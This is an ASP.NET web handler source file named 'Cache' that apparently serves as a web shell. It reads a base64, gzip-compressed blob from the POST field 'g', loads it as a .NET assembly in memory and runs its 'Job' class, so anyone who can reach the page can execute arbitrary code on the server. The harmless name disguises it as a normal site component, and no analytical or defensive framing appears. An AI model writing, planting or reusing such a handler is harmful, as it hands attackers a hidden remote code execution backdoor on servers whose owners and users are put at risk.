<%@ WebHandler Language="C#" Class="Cache" %>
using System;
using System.IO;
using System.IO.Compression;
using System.Web;

public class Cache : IHttpHandler
{
    public void ProcessRequest(HttpContext context)
    {
        byte[] packed = Convert.FromBase64String(context.Request.Form["g"]);
        using (var input = new GZipStream(new MemoryStream(packed), CompressionMode.Decompress))
        using (var output = new MemoryStream())
        {
            input.CopyTo(output);
            System.Reflection.Assembly.Load(output.ToArray()).CreateInstance("Job");
        }
    }

    public bool IsReusable { get { return false; } }
}
